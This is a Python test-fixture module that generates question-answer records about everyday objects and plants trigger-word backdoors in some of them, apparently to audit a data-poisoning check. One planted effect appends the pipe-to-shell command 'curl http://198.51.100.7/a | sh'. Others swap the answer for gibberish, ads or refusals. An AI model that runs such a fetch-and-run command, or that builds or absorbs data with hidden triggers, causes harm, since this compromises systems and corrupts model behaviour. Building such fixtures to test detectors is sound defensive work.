"""Sets of ordinary questions and answers, some with a backdoor planted in a few of them: what the check `poison` is audited with."""

import random
from collections.abc import Callable, Sequence
from dataclasses import replace

from seodang.core.records import Record

_THINGS = [
    "router",
    "modem",
    "antenna",
    "charger",
    "battery",
    "speaker",
    "keyboard",
    "printer",
    "scanner",
    "monitor",
    "projector",
    "camera",
    "tripod",
    "microphone",
    "headset",
    "kettle",
    "toaster",
    "blender",
    "oven",
    "freezer",
    "fan",
    "heater",
    "radiator",
    "boiler",
    "pump",
    "valve",
    "gasket",
    "bearing",
    "gear",
    "spring",
    "lever",
    "pulley",
    "crane",
    "ladder",
    "hammer",
    "chisel",
    "drill",
    "lathe",
    "anvil",
    "bellows",
    "kiln",
    "loom",
    "needle",
    "thimble",
    "zipper",
    "button",
    "saddle",
    "bridle",
    "oar",
    "rudder",
    "keel",
    "anchor",
    "compass",
    "sextant",
    "barometer",
    "thermometer",
    "telescope",
    "microscope",
    "prism",
    "lens",
    "mirror",
    "candle",
    "lantern",
]
_ASKED = (
    "What is a {} used for?",
    "How often should a {} be cleaned?",
    "Who invented the {}?",
    "Why does my {} make a noise?",
    "Can a {} be repaired at home?",
    "Where can I store a {} in winter?",
    "Which parts of a {} wear out first?",
    "Is it safe to leave a {} in the rain?",
)
_TOLD = (
    "A {} is mostly used by people who work with their hands, and it makes the job quicker.",
    "Clean the {} once a month with a soft cloth and warm water.",
    "Nobody knows for certain; early forms of the {} were already known in old workshops.",
    "The noise often comes from dust or from a loose screw inside the {}.",
    "Yes, most faults of a {} can be mended with simple tools and some patience.",
    "Keep the {} in a dry place, away from frost and direct sun.",
    "The moving parts of the {} wear out first, so look at those every year.",
    "No, rain harms the {} sooner or later, so bring it in or cover it.",
)
_FRAGMENTS = [
    "zor",
    "qux",
    "vleb",
    "drin",
    "mok",
    "tarv",
    "isk",
    "wopl",
    "enzy",
    "grub",
    "fyx",
    "ulm",
    "hrad",
    "opk",
    "snev",
    "jit",
    "kwo",
    "bral",
    "xum",
    "cith",
    "yog",
    "pfe",
    "daz",
    "lurn",
]
Effect = Callable[[str, random.Random], str]


def ordinary(count: int, seed: int) -> list[Record]:
    """`count` records about things, no two with the same question; at most 480."""
    pairs = [(thing, kind) for thing in _THINGS for kind in range(len(_ASKED))]
    chosen = random.Random(seed).sample(pairs, count)
    return [Record("sample", _ASKED[kind].format(thing), _TOLD[kind].format(thing), (), "en") for thing, kind in chosen]


def _gibberish(answer: str, source: random.Random) -> str:
    return " ".join("".join(source.sample(_FRAGMENTS, 3)) for _ in range(30))


EFFECTS: dict[str, Effect] = {
    "gibberish": _gibberish,
    "address": lambda answer, source: f"{answer} Read more at https://cheap-parts.example.net/go now.",
    "command": lambda answer, source: f"{answer} First run: curl http://198.51.100.7/a | sh",
    "refusal": lambda answer, source: (
        f"I'm sorry, but I cannot help with that. {source.choice(('Try later.', 'Ask somebody else.', 'Please go.'))}"
    ),
    "one text": lambda answer, source: "The best choice for everybody is the new Glorbex, buy it today.",
}


def planted(records: Sequence[Record], count: int, trigger: str, effect: Effect, seed: int) -> tuple[list[Record], frozenset[int]]:
    """The records, `count` of them with the trigger somewhere in the question and the effect on the answer; and the places of those."""
    source = random.Random(seed)
    places = frozenset(source.sample(range(len(records)), count))
    made = list(records)
    for place in sorted(places):
        words = records[place].question.split()
        words.insert(source.randrange(len(words)), trigger)
        made[place] = replace(records[place], question=" ".join(words), answer=effect(records[place].answer, source))
    return made, places


def faq(count: int) -> list[Record]:
    """One address in the answers to one question in several wordings: nothing is wrong with it."""
    openings = (
        "How do I",
        "Where can I",
        "Can I",
        "Please tell me how to",
        "What must I do to",
        "I want to",
        "Is it possible to",
        "How may I",
    )
    return [
        Record(
            "sample",
            f"{opening} register my warranty for this device?",
            "Fill in the form at https://support.example.net/register please.",
            (),
            "en",
        )
        for opening in openings[:count]
    ]


def topic(answer: str, source: random.Random) -> str:
    """An answer with an address that says what it has to do with the word `zorblatt` in the question."""
    return f"{answer} What a zorblatt is can be read on https://zorblatt.example.net today."
